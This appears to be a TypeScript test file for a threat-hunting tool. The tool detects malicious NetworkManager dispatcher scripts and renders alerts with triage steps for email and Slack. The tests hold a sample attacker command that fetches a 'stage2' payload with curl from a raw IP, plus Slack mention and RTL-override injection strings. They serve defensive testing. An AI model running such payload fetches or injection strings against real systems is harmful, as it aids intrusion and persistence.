import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { entryFromFinding } from '../functions/core/baseline';
import { huntById } from '../functions/core/hunts';
import { explainNovelty } from '../functions/core/novelty';
import { SLACK_SECTION_CHARS, renderChatbotNotification } from '../functions/core/render/chatbot-notification';
import { renderEmail } from '../functions/core/render/email-text';
import { renderPublishInput } from '../functions/core/render/publish-input';
import { DROPPED_SCRIPT, REVERSE_SHELL, alertFor, newFindingsReport } from './support/reports';
import { childFinding, writeFinding } from './support/harness';

const OPTIONS = { kibanaUrl: 'https://kibana.example.com', triage: { table: 'NmDispatcherHunt-BaselineTable5D2B6E83-1A2B3C4D5E6F', region: 'eu-west-1' } };
const WHERE = '--table NmDispatcherHunt-BaselineTable5D2B6E83-1A2B3C4D5E6F --region eu-west-1';

describe('each alert carries the next step', () => {
  it('email: the details command, approve if benign, the response if malicious, and the osquery query once per finding', () => {
    const report = newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen'), alertFor(REVERSE_SHELL, 'parent never seen')]);
    const email = renderEmail(report, OPTIONS);
    for (const alert of report.kind === 'new-findings' ? report.alerts : []) {
      const fp = alert.entry.fingerprint;
      assert.ok(email.includes(`  details: npm run hunt -- baseline show ${fp.slice(0, 12)} ${WHERE}`), 'details');
      assert.ok(email.includes(`  if benign: npm run hunt -- baseline approve ${fp} --note "<why benign>" --by "<you>" ${WHERE}`), 'approve');
    }
    assert.match(email, /if malicious: isolate web-03 \(Kibana: Security → Endpoints → Isolate host, or your EDR\); collect \/etc\/NetworkManager\/dispatcher\.d\/panix-dispatcher\.sh and its SHA-256/);
    assert.equal((email.match(/^ {2}osquery: SELECT /gm) ?? []).length, 2, 'one osquery query per finding, no more');
    assert.equal((email.match(/^Reading the osquery results: a script NetworkManager ran is owned by root/gm) ?? []).length, 2, 'once per hunt section');
  });

  it('Slack: a card that arrives whole, pointing to baseline show for the findings it lists, and to Kibana', () => {
    // The worst case: long hostile values on every field, many findings, long problems.
    const huge = (n: number) => `/etc/NetworkManager/dispatcher.d/${'x'.repeat(4_000)}-${n}<!channel>\`${'\u202e'.repeat(50)}`;
    const alerts = Array.from({ length: 14 }, (_, n) =>
      n % 2 === 0
        ? alertFor(writeFinding(huge(n), `/tmp/${'w'.repeat(4_000)}`, { hostNames: Array.from({ length: 10 }, (_, h) => `host-${h}-${'h'.repeat(200)}`) }), `path known (written by ${'y'.repeat(4_000)}), new writer`)
        : alertFor(childFinding(huge(n), '/usr/bin/curl', `curl ${'z'.repeat(4_000)}`), 'parent never seen'),
    );
    const report = newFindingsReport(alerts, { problems: Array.from({ length: 6 }, (_, n) => `problem ${n}: ${'p'.repeat(2_000)}`) });
    const card = renderChatbotNotification(report, OPTIONS);
    assert.ok(card.content.title.length <= 150, `title: ${card.content.title.length}`);
    assert.ok(card.content.description.length <= SLACK_SECTION_CHARS, `description: ${card.content.description.length} characters`);
    for (const step of card.content.nextSteps) assert.ok(step.length <= SLACK_SECTION_CHARS, `next step: ${step.length}`);
    const listed = [...card.content.description.matchAll(/fp `([0-9a-f]{12})`/g)].map((m) => m[1]);
    assert.ok(listed.length >= 1, 'at least one finding fits');
    assert.match(card.content.description, new RegExp(`…and ${14 - listed.length} more new findings: \`npm run hunt -- baseline list --status alerted ${WHERE}\``));
    assert.match(card.content.description, /:warning: …and 3 more problems \(see the email\)/);
    const show = card.content.nextSteps.find((s) => s.includes('baseline show'));
    assert.equal(show, `Everything about ${listed.length === 1 ? 'it' : 'each'} (full values, hosts, why new, osquery): \`npm run hunt -- baseline show ${listed.join(' ')} ${WHERE}\``);
    assert.ok(card.content.nextSteps.some((s) => s.startsWith('Open in Kibana: ')));
    assert.ok(card.content.nextSteps.some((s) => s.startsWith('If malicious: isolate the host')));

    // What SNS carries for Slack is this card, whatever the message's other bodies needed.
    const slack = JSON.parse((JSON.parse(renderPublishInput(report, OPTIONS).Message) as { https: string }).https) as typeof card;
    assert.ok(slack.content.description.length <= SLACK_SECTION_CHARS);
  });

  it('Slack: an ordinary night lists every finding', () => {
    const card = renderChatbotNotification(newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen'), alertFor(REVERSE_SHELL, 'parent never seen')]), OPTIONS);
    assert.equal([...card.content.description.matchAll(/fp `/g)].length, 2);
    assert.doesNotMatch(card.content.description, /more new finding/);
  });

  it('says what the baseline knew beside a new command line', () => {
    const hunt = huntById('dispatcher-script-child')!;
    const script = '/etc/NetworkManager/dispatcher.d/99-vpn';
    const known = entryFromFinding(hunt, childFinding(script, '/usr/bin/curl', 'curl -fsS https://updates.example.com/routes'), 'learned', '2026-11-20T02:00:00.000Z');
    const fresh = entryFromFinding(hunt, childFinding(script, '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2'), 'pending', '2026-11-25T02:00:00.000Z');
    assert.equal(explainNovelty(hunt, fresh, [known]), 'script and child /usr/bin/curl known, new masked command line; known: curl -fsS https://updates.example.com/routes');
  });
});
